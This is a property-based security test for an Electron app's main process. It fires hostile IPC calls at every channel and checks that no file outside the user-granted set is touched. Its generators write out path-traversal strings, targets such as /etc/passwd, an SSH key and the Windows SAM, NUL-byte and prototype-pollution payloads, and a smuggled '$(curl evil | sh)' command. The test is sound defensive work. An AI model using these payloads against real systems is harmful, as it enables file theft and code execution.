// @vitest-environment node
// The main process as bootstrap() wires it (against the electron mock), driven by fast-check
// through sequences that interleave what a person does (pick files in dialogs, open files from
// the OS, drop files, click Open Recent, save, restore, restart, crash the renderer) with what a
// compromised page can do: call every invoke channel with hostile arguments (paths of every
// shape, wrong types, extra fields, prototype keys, guessed or replayed tokens and ids), call
// from another sender or a sub-frame, send on the drop channel, navigate.
//
// node:fs/promises is instrumented for the whole main process: every operation on a path is
// recorded. After every step, each recorded path must be in the granted set: a file the user
// picked in a dialog, one the OS handed over, one the user dropped (and what a link among them
// leads to), the temp files of writing them, the folder an export went to, or the userData
// stores. Decoys (valid topologies among them) sit next to the granted files and elsewhere;
// at the end of each run they must be byte-for-byte and mode-for-mode what they were, and no
// page-facing message or event may carry a full path.
import { afterAll, describe, expect, it, vi } from 'vitest';
import fc from 'fast-check';
import * as sync from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join, relative } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { MenuItemConstructorOptions } from 'electron';
import { INVOKE_CHANNELS } from '../../../shared/ipc/contract';
import { serializeDocument } from '../../../shared/document/file';
import { documentOf } from '../../../shared/document/factory';

const rec = vi.hoisted(() => ({ on: false, ops: [] as { op: string; path: string }[] }));

vi.mock('node:fs/promises', async (importOriginal) => {
  const real = await importOriginal<Record<string, unknown>>();
  const wrapped: Record<string, unknown> = {};
  for (const [name, value] of Object.entries(real)) {
    if (typeof value !== 'function' || name === 'default') {
      wrapped[name] = value;
      continue;
    }
    wrapped[name] = (...args: unknown[]) => {
      if (rec.on) rec.ops.push({ op: name, path: String(args[0]) });
      return (value as (...a: unknown[]) => unknown)(...args);
    };
  }
  return { ...wrapped, default: wrapped };
});
vi.mock('electron', () => import('../../mocks/electron'));

const { app, BrowserWindow, dialog, ipcMain, Menu, MockWebContents, MockWebFrame, resetElectronMock } = await import('../../mocks/electron');
const { bootstrap } = await import('../../../electron/bootstrap');
const { flattenMenu } = await import('../../../electron/app-menu');
const { tempIdOf } = await import('../../../electron/atomic-write');

const RUNS = Number(process.env.IPC_STATE_MACHINE_RUNS ?? 3000);
const BASE = sync.existsSync('/dev/shm') ? '/dev/shm' : tmpdir();
const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
const topology = (name: string) => serializeDocument(documentOf({ name }));

const stats = { runs: 0, steps: 0, hostile: 0, refused: 0, legit: 0, opsChecked: 0 };

/** One run's world on disk. */
interface World {
  root: string;
  userData: string;
  picked: string;
  decoys: Map<string, { content: Buffer; mode: number; link?: string }>;
  granted: Set<string>;
  grantedDirs: Set<string>;
  tokensSeen: string[];
  idsSeen: string[];
  pageSaw: string[];
}

const DECOY_FILES: [string, string | Buffer][] = [
  ['home/.bashrc', 'export PATH=$HOME/bin:$PATH\n'],
  ['home/secret.json', topology('Secret')],
  ['home/passwd', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n'],
  ['home/blob.bin', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x00, 0xff, 0xfe, 0x01])],
  ['home/.ssh/id_ed25519', '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n'],
  // Siblings of the files the user picks, never picked themselves.
  ['picked/c.json', topology('Sibling')],
  ['picked/.hidden.json', topology('Hidden')],
  ['os/unoffered.json', topology('Unoffered')],
];

function makeWorld(): World {
  const root = sync.mkdtempSync(join(BASE, 'ipsec-studio-sm-'));
  const w: World = { root, userData: join(root, 'userData'), picked: join(root, 'picked'), decoys: new Map(), granted: new Set(), grantedDirs: new Set(), tokensSeen: [], idsSeen: [], pageSaw: [] };
  for (const d of ['home/.ssh', 'home/dir', 'picked/sub', 'os', 'dropped', 'userData']) sync.mkdirSync(join(root, d), { recursive: true });
  for (const [rel, content] of DECOY_FILES) sync.writeFileSync(join(root, rel), content);
  sync.chmodSync(join(root, 'home/.ssh/id_ed25519'), 0o600);
  sync.symlinkSync(join(root, 'home/secret.json'), join(root, 'home/link.json'));
  for (const [rel, content] of [
    ['picked/a.json', topology('A')],
    ['picked/b.json', topology('B')],
    ['picked/not-topology.json', '{"name": "not a topology"}'],
    ['picked/sub/d.json', topology('D')],
    ['os/o.json', topology('OS')],
    ['dropped/d.json', topology('Dropped')],
  ] as const) sync.writeFileSync(join(root, rel), content);
  sync.symlinkSync(join(root, 'picked/b.json'), join(root, 'picked/link-to-b.json'));
  for (const [rel] of DECOY_FILES) {
    const p = join(root, rel);
    w.decoys.set(p, { content: sync.readFileSync(p), mode: sync.statSync(p).mode });
  }
  w.decoys.set(join(root, 'home/link.json'), { content: Buffer.from(''), mode: 0, link: join(root, 'home/secret.json') });
  return w;
}

function grant(w: World, path: string): void {
  w.granted.add(path);
  try {
    w.granted.add(sync.realpathSync(path));
  } catch {
    // Not there yet (a save to a new file).
  }
}

function allowed(w: World, op: string, path: string): boolean {
  if (path === w.userData || path.startsWith(`${w.userData}/`)) return true;
  if (w.granted.has(path)) return true;
  const dir = dirname(path);
  if (w.grantedDirs.has(path)) return true;
  if (w.grantedDirs.has(dir)) return true;
  const grantedIn = [...w.granted].filter((g) => dirname(g) === dir);
  // The folder of a granted file: opened only to flush the rename to disk.
  if (op === 'open' && [...w.granted].some((g) => dirname(g) === path)) return true;
  // Our temp file for a granted file (same folder, our exact name pattern, the file's name).
  if (tempIdOf(path) && grantedIn.some((g) => basename(path).startsWith(`.${basename(g).slice(0, 16)}`))) return true;
  return false;
}

function checkOps(w: World, step: string): void {
  const bad = rec.ops.filter((o) => !allowed(w, o.op, o.path));
  stats.opsChecked += rec.ops.length;
  rec.ops.length = 0;
  if (bad.length > 0) throw new Error(`${step}: touched files outside the granted set: ${bad.map((b) => `${b.op} ${relative(w.root, b.path)}`).join(', ')}`);
}

function checkDecoys(w: World): void {
  for (const [p, was] of w.decoys) {
    // The person chose it in a save dialog (e.g. accepted the suggested name, and the native
    // dialog's overwrite question): then it is theirs to overwrite.
    if (w.granted.has(p)) continue;
    if (was.link) {
      expect(sync.lstatSync(p).isSymbolicLink(), p).toBe(true);
      expect(sync.readlinkSync(p)).toBe(was.link);
      continue;
    }
    expect(sync.readFileSync(p).equals(was.content), `${relative(w.root, p)} changed`).toBe(true);
    expect(sync.statSync(p).mode, `${relative(w.root, p)} mode`).toBe(was.mode);
  }
  for (const seen of w.pageSaw) expect(seen.includes(w.root), `the page was told a full path: ${seen.slice(0, 300)}`).toBe(false);
}

// ---- the app ------------------------------------------------------------------------------

interface Running {
  win: InstanceType<typeof BrowserWindow>;
  ctx: NonNullable<Awaited<ReturnType<typeof bootstrap>>>;
}

async function startApp(w: World): Promise<Running> {
  resetElectronMock();
  app.userData = w.userData;
  const ctx = await bootstrap(silent);
  const win = BrowserWindow.all.at(-1);
  if (!ctx || !win) throw new Error('did not start');
  win.webContents.emit('did-finish-load');
  return { ctx, win };
}

/** The page's view of events: tokens it was offered. */
function collectEvents(w: World, r: Running): void {
  for (const s of r.win.webContents.sent.splice(0)) {
    const text = JSON.stringify(s);
    w.pageSaw.push(text);
    if (s.channel === 'file:open-offered') w.tokensSeen.push((s.payload as { token: string }).token);
  }
}

async function invoke(w: World, r: Running, channel: string, payload: unknown, sender = r.win.webContents, frame?: InstanceType<typeof MockWebFrame> | null): Promise<unknown> {
  let result: unknown;
  try {
    result = await ipcMain.invoke(channel, sender, payload, frame === undefined ? sender.mainFrame : frame);
  } catch (e) {
    stats.refused++;
    result = { refused: e instanceof Error ? e.message : String(e) };
  }
  const text = JSON.stringify(result) ?? '';
  w.pageSaw.push(text);
  const copies = (result as { copies?: { id: string }[] } | undefined)?.copies;
  if (Array.isArray(copies)) for (const c of copies) w.idsSeen.push(c.id);
  return result;
}

// ---- arbitraries --------------------------------------------------------------------------
// Generated values name the run's folder as ROOT and refer to tokens and recovery ids the page
// has seen by index (Seen); both are resolved when the step runs, in that run's world.

const ROOT = '@ROOT@';
class Seen {
  constructor(
    readonly what: 'token' | 'id',
    readonly index: number,
  ) {}
}

function resolve(w: World, value: unknown): unknown {
  if (typeof value === 'string') return value.split(ROOT).join(w.root);
  if (value instanceof Seen) {
    const list = value.what === 'token' ? w.tokensSeen : w.idsSeen;
    return list.length ? list[value.index % list.length] : value.what === 'token' ? '0'.repeat(32) : 'f'.repeat(16);
  }
  if (Array.isArray(value)) return value.map((v) => resolve(w, v));
  if (value !== null && typeof value === 'object') {
    const out = Object.create(Object.getPrototypeOf(value) as object | null) as Record<string, unknown>;
    // defineProperty, so an own "__proto__" key stays an own key (as JSON.parse makes it).
    for (const key of Object.keys(value)) Object.defineProperty(out, key, { value: resolve(w, (value as Record<string, unknown>)[key]), enumerable: true, writable: true, configurable: true });
    return out;
  }
  return value;
}

/** Paths a hostile page might name. */
const hostilePath: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    `${ROOT}/home/.bashrc`,
    `${ROOT}/home/secret.json`,
    `${ROOT}/home/link.json`,
    `${ROOT}/home/passwd`,
    `${ROOT}/home/blob.bin`,
    `${ROOT}/home/.ssh/id_ed25519`,
    `${ROOT}/home/dir`,
    `${ROOT}/picked/c.json`,
    `${ROOT}/picked/.hidden.json`,
    `${ROOT}/os/unoffered.json`,
    `${ROOT}/picked/../home/.bashrc`,
    `${ROOT}/picked/./../home/secret.json`,
    '../home/.bashrc',
    '..\\..\\home\\.bashrc',
    'secret.json',
    '~/.bashrc',
    `${ROOT}/home/secret.json\0.png`,
    `\0${ROOT}/home/.bashrc`,
    `file://${ROOT}/home/secret.json`,
    `file://${ROOT}/home/.bashrc?x=1#y`,
    'C:\\Users\\me\\secret.json',
    '\\\\?\\C:\\Windows\\System32\\config\\SAM',
    '\\\\server\\share\\x.json',
    `/${'a'.repeat(5000)}`,
    `${ROOT}/home/${'../'.repeat(700)}etc/passwd`,
    '/etc/passwd',
    '/proc/self/environ',
    '',
    '.',
    '/',
  ),
  fc.string({ maxLength: 40 }).map((s) => `${ROOT}/home/${s}`),
  fc.string({ maxLength: 60 }),
);

const hostileToken: fc.Arbitrary<unknown> = fc.oneof(
  fc.stringMatching(/^[0-9a-f]{32}$/),
  hostilePath,
  fc.constantFrom('__proto__', 'constructor'),
  fc.integer(),
  fc.constant(null),
  // A token the page was really given, used again (or for the first time).
  fc.nat().map((i) => new Seen('token', i)),
);

const hostileId: fc.Arbitrary<unknown> = fc.oneof(
  fc.stringMatching(/^[0-9a-f]{16}$/),
  fc.constantFrom('../../home/.bashrc', '..', 'recovery', '0000000000000000/../../x', 'AAAAAAAAAAAAAAAA', ''),
  hostilePath,
  fc.nat().map((i) => new Seen('id', i)),
);

const protoPayload = fc.constantFrom(
  JSON.parse('{"__proto__": {"path": "/etc/passwd", "saveAs": false}}') as unknown,
  JSON.parse('{"constructor": {"prototype": {"path": "/etc/passwd"}}}') as unknown,
  JSON.parse('{"text": "{}", "saveAs": false, "__proto__": {"path": "/etc/passwd"}}') as unknown,
  JSON.parse('{"token": "00000000000000000000000000000000", "__proto__": {"token": "x"}}') as unknown,
);

const hostileText = fc.constantFrom(topology('Hostile'), `${topology('x').trimEnd().slice(0, -1)}, "notes": "$(curl evil | sh)"}`, '{}', 'not json');

const hostilePayloads: Record<string, fc.Arbitrary<unknown>> = {
  'file:open': fc.oneof(fc.record({ token: hostileToken }), fc.record({ path: hostilePath }), fc.record({ token: hostileToken, path: hostilePath })),
  'file:save': fc.oneof(
    fc.record({ text: hostileText, saveAs: fc.boolean(), suggestedName: hostilePath }),
    fc.record({ text: hostileText, saveAs: fc.boolean(), path: hostilePath }),
    fc.record({ text: hostileText, path: hostilePath }),
    fc.record({ text: hostileText, saveAs: fc.constantFrom('false', 0, null) }),
  ),
  'file:forget': fc.oneof(fc.constant({}), fc.record({ path: hostilePath })),
  'recovery:write': fc.oneof(fc.record({ text: hostileText }), fc.record({ text: hostileText, path: hostilePath }), fc.record({ text: hostileText, name: hostilePath })),
  'recovery:list': fc.oneof(fc.constant({}), fc.record({ folder: hostilePath })),
  'recovery:restore': fc.oneof(fc.record({ id: hostileId }), fc.record({ id: hostileId, path: hostilePath })),
  'recovery:discard': fc.oneof(fc.record({ id: hostileId }), fc.record({ path: hostilePath })),
  'recovery:clear': fc.oneof(fc.constant({}), fc.record({ path: hostilePath }), fc.record({ id: hostileId })),
  'export:save': fc.record({
    files: fc.array(fc.record({ name: fc.oneof(hostilePath, fc.constantFrom('CON', 'nul.txt', 'a.', '.bashrc', 'ok.conf', '../x.conf')), content: fc.string({ maxLength: 20 }) }), { minLength: 1, maxLength: 3 }),
    as: fc.constantFrom('folder', 'zip', 'path'),
  }),
  'image:save': fc.record({ format: fc.constantFrom('png', 'svg', 'exe'), data: fc.constantFrom('<svg xmlns="http://www.w3.org/2000/svg"/>', 'aGVsbG8='), suggestedName: hostilePath }),
  'window:state': fc.record({ title: fc.oneof(hostilePath, fc.string({ maxLength: 400 })), dirty: fc.oneof(fc.boolean(), fc.constant('yes')) }),
  'window:close-ack': fc.oneof(fc.constant({}), fc.record({ path: hostilePath })),
  'window:close-decision': fc.record({ decision: fc.oneof(fc.constantFrom('discard', 'cancel', 'save-then-close', 'save-to'), hostilePath) }),
};

function hostilePayload(channel: string): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 6, arbitrary: hostilePayloads[channel] ?? fc.constant({}) },
    { weight: 1, arbitrary: protoPayload },
    { weight: 1, arbitrary: fc.anything({ maxDepth: 2 }) },
    { weight: 1, arbitrary: hostilePath },
  );
}

type Action = { kind: string; run: (w: World, r: Running) => Promise<Running> };

const legit = (kind: string, run: (w: World, r: Running) => Promise<Running | void>): Action => ({
  kind,
  run: async (w, r) => {
    stats.legit++;
    return (await run(w, r)) ?? r;
  },
});
const hostile = (kind: string, run: (w: World, r: Running) => Promise<void>): Action => ({
  kind,
  run: async (w, r) => {
    stats.hostile++;
    await run(w, r);
    return r;
  },
});

/** The page opens the file it was last offered (as the renderer does). */
async function openOffered(w: World, r: Running): Promise<void> {
  collectEvents(w, r);
  const token = w.tokensSeen.at(-1);
  if (token) await invoke(w, r, 'file:open', { token });
}

/** The person answers the next save dialog: a name in picked/, or the name the dialog suggests. */
function answerSave(w: World, name: string, acceptDefault: boolean): void {
  dialog.showSaveDialog.mockImplementationOnce(async (...args: unknown[]) => {
    const options = args[1] as { defaultPath?: string };
    // The page's suggestion reaches the dialog as a plain file name, never a folder.
    if (options.defaultPath !== undefined && /[\\/]/.test(options.defaultPath)) throw new Error(`the save dialog was steered to ${options.defaultPath}`);
    const filePath = acceptDefault && options.defaultPath ? join(w.picked, options.defaultPath) : join(w.picked, name);
    for (const ext of ['', '.json', '.zip', '.png', '.svg']) grant(w, `${filePath}${ext}`);
    return { canceled: false, filePath };
  });
}

const pickable = fc.constantFrom('a.json', 'b.json', 'not-topology.json', 'sub/d.json', 'link-to-b.json', 'gone.json');
const saveName = fc.constantFrom('a.json', 'new-1', 'new-2.json', 'link-to-b.json', 'sub/new-3.json', 'missing/x.json');

const userActions: fc.Arbitrary<Action>[] = [
  pickable.map((name) =>
    legit(`dialog open ${name}`, async (w, r) => {
      const pick = join(w.picked, name);
      dialog.showOpenDialog.mockResolvedValueOnce({ canceled: false, filePaths: [pick] });
      grant(w, pick);
      await invoke(w, r, 'file:open', {});
    }),
  ),
  fc.tuple(saveName, fc.boolean(), hostilePath).map(([name, acceptDefault, suggested]) =>
    legit(`save as ${name}${acceptDefault ? ' (the suggested name)' : ''}`, async (w, r) => {
      answerSave(w, name, acceptDefault);
      await invoke(w, r, 'file:save', { text: topology('Mine'), saveAs: true, suggestedName: (resolve(w, suggested) as string).slice(0, 255) });
    }),
  ),
  fc.tuple(saveName, fc.boolean()).map(([name, acceptDefault]) =>
    legit('save', async (w, r) => {
      answerSave(w, name, acceptDefault); // answered only if there is no current file yet
      await invoke(w, r, 'file:save', { text: topology('Saved'), saveAs: false });
      dialog.showSaveDialog.mockReset().mockResolvedValue({ canceled: true, filePath: undefined });
    }),
  ),
  fc.constantFrom('o.json', 'gone.json').map((name) =>
    legit(`the OS opens ${name}`, async (w, r) => {
      const path = join(w.root, 'os', name);
      grant(w, path);
      app.emit('open-file', { preventDefault: () => undefined }, path);
      await openOffered(w, r);
    }),
  ),
  fc.constant(
    legit('a second instance is started with a file', async (w, r) => {
      const path = join(w.root, 'os', 'o.json');
      grant(w, path);
      app.emit('second-instance', {}, ['/usr/bin/ipsec-studio-desktop', '--flag', path]);
      await openOffered(w, r);
    }),
  ),
  fc.constant(
    legit('the user drops a file', async (w, r) => {
      const path = join(w.root, 'dropped', 'd.json');
      grant(w, path);
      ipcMain.send('shell:files-dropped', r.win.webContents, { paths: [path] });
      await openOffered(w, r);
    }),
  ),
  fc.nat(9).map((i) =>
    legit(`Open Recent ${i}`, async (w, r) => {
      const items = flattenMenu((Menu.current?.template ?? []) as MenuItemConstructorOptions[]);
      (items.find((x) => x.id === `recent-${i}`)?.click as (() => void) | undefined)?.();
      await openOffered(w, r);
    }),
  ),
  fc.constant(legit('new document', async (w, r) => void (await invoke(w, r, 'file:forget', {})))),
  fc.constant(legit('autosave', async (w, r) => void (await invoke(w, r, 'recovery:write', { text: topology('Draft') })))),
  fc.constantFrom('restore', 'discard').map((what) =>
    legit(`recovery ${what}`, async (w, r) => {
      const listed = (await invoke(w, r, 'recovery:list', {})) as { copies?: { id: string }[] };
      const id = listed.copies?.[0]?.id;
      if (id) await invoke(w, r, `recovery:${what}`, { id });
    }),
  ),
  fc.constant(
    legit('export to a folder', async (w, r) => {
      const folder = join(w.picked, `out-${w.grantedDirs.size}`);
      sync.mkdirSync(folder, { recursive: true });
      w.grantedDirs.add(folder);
      dialog.showOpenDialog.mockResolvedValueOnce({ canceled: false, filePaths: [folder] });
      await invoke(w, r, 'export:save', { files: [{ name: 'hq.conf', content: 'x' }, { name: 'br.conf', content: 'y' }], as: 'folder' });
    }),
  ),
  fc.constantFrom('zip', 'svg').map((what) =>
    legit(`export ${what}`, async (w, r) => {
      answerSave(w, `out.${what}`, false);
      if (what === 'zip') await invoke(w, r, 'export:save', { files: [{ name: 'hq.conf', content: 'x' }], as: 'zip' });
      else await invoke(w, r, 'image:save', { format: 'svg', data: '<svg xmlns="http://www.w3.org/2000/svg"/>', suggestedName: 'canvas.svg' });
    }),
  ),
  fc.constant(legit('restart the app', async (w) => startApp(w))),
  fc.constant(
    legit('the renderer crashes and reloads', async (_w, r) => {
      r.win.webContents.emit('render-process-gone', {}, { reason: 'crashed', exitCode: 1 });
      r.win.webContents.emit('did-finish-load');
    }),
  ),
  fc.constant(
    legit('close with "Don’t save", then start again', async (w, r) => {
      await invoke(w, r, 'window:state', { title: 'x', dirty: true });
      r.win.close();
      await invoke(w, r, 'window:close-ack', {});
      await invoke(w, r, 'window:close-decision', { decision: 'discard' });
      await r.ctx.recovery.idle();
      return startApp(w);
    }),
  ),
];

const isWellFormedDrop = (payload: unknown): boolean => {
  const paths = (payload as { paths?: unknown } | null)?.paths;
  return Array.isArray(paths) && paths.length > 0 && paths.length <= 64 && paths.every((p) => typeof p === 'string' && p.startsWith('/') && !p.includes('\0') && p.length <= 4096);
};

const hostileActions: { arbitrary: fc.Arbitrary<Action>; weight: number }[] = [
  {
    weight: 14,
    arbitrary: fc
      .constantFrom(...INVOKE_CHANNELS)
      .chain((channel) => hostilePayload(channel).map((payload) => ({ channel, payload })))
      .map(({ channel, payload }) => hostile(`page: ${channel}`, async (w, r) => void (await invoke(w, r, channel, resolve(w, payload))))),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('shell:files-dropped', 'file:open-path', 'file:recent', 'recovery:read', 'shell:openExternal', '__proto__', 'constructor', 'toString'), fc.anything({ maxDepth: 1 }))
      .map(([channel, payload]) => hostile(`page: unknown channel ${channel}`, async (w, r) => void (await invoke(w, r, channel, payload)))),
  },
  {
    weight: 3,
    arbitrary: fc.tuple(fc.constantFrom(...INVOKE_CHANNELS), fc.constantFrom('other webContents', 'sub-frame', 'no frame', 'foreign origin')).map(([channel, who]) =>
      hostile(`${who}: ${channel}`, async (w, r) => {
        collectEvents(w, r);
        const token = w.tokensSeen.at(-1) ?? '0'.repeat(32);
        const payload = channel === 'file:open' ? { token } : channel === 'file:save' ? { text: topology('x'), saveAs: false } : {};
        if (who === 'other webContents') await invoke(w, r, channel, payload, new MockWebContents('app://studio/index.html'));
        else if (who === 'sub-frame') await invoke(w, r, channel, payload, r.win.webContents, new MockWebFrame('app://studio/index.html'));
        else if (who === 'no frame') await invoke(w, r, channel, payload, r.win.webContents, null);
        else {
          const url = r.win.webContents.mainFrame.url;
          r.win.webContents.mainFrame.url = 'https://evil.example/index.html';
          await invoke(w, r, channel, payload);
          r.win.webContents.mainFrame.url = url;
        }
      }),
    ),
  },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.oneof(hostilePath.map((p) => ({ paths: [p] })), fc.array(hostilePath, { maxLength: 70 }).map((paths) => ({ paths })), fc.anything({ maxDepth: 2 }), hostilePath), fc.constantFrom('page', 'other webContents', 'sub-frame'))
      .map(([raw, who]) =>
        hostile(`drop channel from ${who}`, async (w, r) => {
          const payload = resolve(w, raw);
          // From the window itself, a well-formed payload is what the preload sends for a real
          // drop (the page cannot reach that channel; see preload.ts): only malformed ones here.
          if (who === 'page' && isWellFormedDrop(payload)) return;
          if (who === 'page') ipcMain.send('shell:files-dropped', r.win.webContents, payload);
          else if (who === 'other webContents') ipcMain.send('shell:files-dropped', new MockWebContents('app://studio/index.html'), payload);
          else ipcMain.send('shell:files-dropped', r.win.webContents, payload, new MockWebFrame('app://studio/index.html'));
          await openOffered(w, r);
        }),
      ),
  },
  {
    weight: 2,
    arbitrary: hostilePath.map((raw) =>
      hostile('page navigates', async (w, r) => {
        const p = resolve(w, raw) as string;
        const url = p.startsWith('/') && !p.includes('\0') ? pathToFileURL(p).href : p;
        r.win.webContents.fire('will-navigate', url);
        r.win.webContents.fire('will-redirect', url);
        r.win.webContents.windowOpenHandler?.({ url });
        await openOffered(w, r);
      }),
    ),
  },
];

const anyAction: fc.Arbitrary<Action> = fc.oneof(...userActions.map((arbitrary) => ({ arbitrary, weight: 1 })), ...hostileActions);

describe('IPC state machine: no file outside the granted set is touched', () => {
  afterAll(() => {
    console.info(`[ipc state machine] ${stats.runs} sequences, ${stats.steps} steps (${stats.legit} user actions, ${stats.hostile} hostile), ${stats.refused} calls refused, ${stats.opsChecked} file operations checked`);
  });

  it(`holds over ${RUNS} sequences of user actions and hostile calls on every channel`, { timeout: 240_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(anyAction, { minLength: 1, maxLength: 14 }), async (steps) => {
          const w = makeWorld();
          stats.runs++;
          rec.ops.length = 0;
          rec.on = true;
          try {
            let r = await startApp(w);
            checkOps(w, 'start');
            for (const [i, step] of steps.entries()) {
              stats.steps++;
              r = await step.run(w, r);
              await r.ctx.recovery.idle();
              collectEvents(w, r);
              checkOps(w, `step ${i + 1} (${step.kind})`);
            }
            rec.on = false;
            checkDecoys(w);
          } finally {
            rec.on = false;
            resetElectronMock();
            sync.rmSync(w.root, { recursive: true, force: true });
          }
        }),
      { numRuns: RUNS },
    );
    expect(stats.runs).toBeGreaterThanOrEqual(RUNS);
    // The instrumentation saw the main process at work (a suite that records nothing checks nothing).
    expect(stats.opsChecked).toBeGreaterThan(RUNS * 5);
  });
});
